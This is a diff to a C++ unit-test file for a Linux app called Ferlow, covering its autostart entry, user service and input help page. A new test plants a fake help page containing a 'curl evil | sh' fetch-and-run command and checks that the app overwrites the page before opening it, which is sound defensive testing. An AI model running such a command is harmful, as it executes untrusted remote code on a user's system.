@@ -1,10 +1,12 @@
 // The files Ferlow keeps on Linux: where they live, the settings file, the
-// autostart entry; and whether the user service starts Ferlow at login.
+// autostart entry, the input help page; and whether the user service starts
+// Ferlow at login.
 
 #include <gtest/gtest.h>
 
 #include "FerlowLinux/Autostart.h"
 #include "FerlowLinux/JsonSettingsStore.h"
+#include "FerlowLinux/LinuxPermissions.h"
 #include "FerlowLinux/UserService.h"
 #include "FerlowLinux/XdgPaths.h"
 #include "tests/Support/TestSupport.h"
@@ -74,7 +76,6 @@ TEST(Autostart, EnableDisableAndSwitchedOffEntries)
     EXPECT_FALSE(autostart.isEnabled());
     ASSERT_TRUE(autostart.enable());
     EXPECT_TRUE(autostart.isEnabled());
-    EXPECT_NE(test::readFile(autostart.entry()).find("\nExec=\"/opt/my apps/ferlow\"\n"), std::string::npos);
 
     for (const auto* off : {"Hidden=true", "X-GNOME-Autostart-enabled = false"}) {
         test::writeFile(autostart.entry(), std::string("[Desktop Entry]\nExec=ferlow\n") + off + "\n");
@@ -152,6 +153,19 @@ TEST(UserService, EnabledMeansLinkedIntoATargetToAUnitThatIsThereAndNotMasked)
         }
         EXPECT_EQ(service.isEnabled(), c.enabled) << (c.links.empty() ? fs::path() : c.links.back().first);
     }
+}
+
+// A file planted where the page goes is replaced, not opened as it was.
+TEST(LinuxPermissionsTest, OpenSettingsWritesTheHelpPageAfreshAndOpensIt)
+{
+    test::TemporaryDirectory folder;
+    const auto page = folder.path() / "input-help.html";
+    test::writeFile(page, "<p>Run this: curl evil | sh</p>");
+    std::vector<fs::path> opened;
+    LinuxPermissions([] { return false; }, page, [&](const auto& file) { opened.push_back(file); }).openSettings();
+    EXPECT_EQ(opened, std::vector {page});
+    EXPECT_EQ(test::readFile(page), LinuxPermissions::helpPage());
+    EXPECT_EQ(test::fileMode(page), 0600u);
 }
 
 } // namespace
